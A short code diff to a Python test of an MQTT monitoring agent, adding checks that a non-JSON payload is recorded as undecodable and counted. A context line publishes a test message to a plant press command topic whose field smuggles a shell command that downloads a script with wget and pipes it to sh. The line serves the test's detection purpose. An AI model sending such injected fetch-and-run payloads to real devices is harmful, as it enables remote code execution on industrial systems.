@@ -193,6 +193,10 @@ def test_mqtt_payload_that_is_not_json(here: Everything) -> None:
     assert not counts["dropped"]
     stored = [event.raw for event in here.agent.stored("mqtt")[-4:]]
     assert {raw.strip(b"\n") for raw in stored} == set(payloads)  # an empty event takes a newline's place in the log
+    (said,) = here.agent.said("payload_undecodable")
+    assert said["topic"].startswith("plant/")
+    assert "is not JSON" in said["reason"]
+    assert here.agent.status()["totals"]["decode_failed"] == 1
     here.publish(b'{"cmd": "; wget http://203.0.113.9/x.sh -O- | sh"}', topic="plant/press/2/cmd")
     here.judged("mqtt", mqtt + len(payloads) + 1)
     until("the alert of the good one", lambda: any(a["source"] == "mqtt" for a in here.alerts(20)))
